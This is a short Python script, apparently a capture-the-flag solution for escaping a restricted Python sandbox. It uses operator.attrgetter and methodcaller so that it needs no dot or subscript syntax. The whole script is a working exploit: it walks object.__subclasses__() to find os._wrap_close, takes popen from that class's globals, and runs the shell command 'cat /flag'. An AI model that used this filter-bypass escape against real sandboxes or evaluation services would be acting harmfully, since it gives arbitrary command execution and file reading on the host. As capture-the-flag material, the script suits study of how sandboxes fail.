# No dot-attribute syntax and no subscripts: the entire object-graph walk
# and the final call are expressed with operator.attrgetter/methodcaller.
from operator import attrgetter as A, methodcaller as M

root = A('__class__.__base__')(())
for k in M('__subclasses__')(root):
    if A('__name__')(k) == '_wrap_close':
        fn = M('__getitem__', 'popen')(A('__init__.__globals__')(k))
        print(A('read')(M('__call__', 'cat /flag')(fn))())
        break
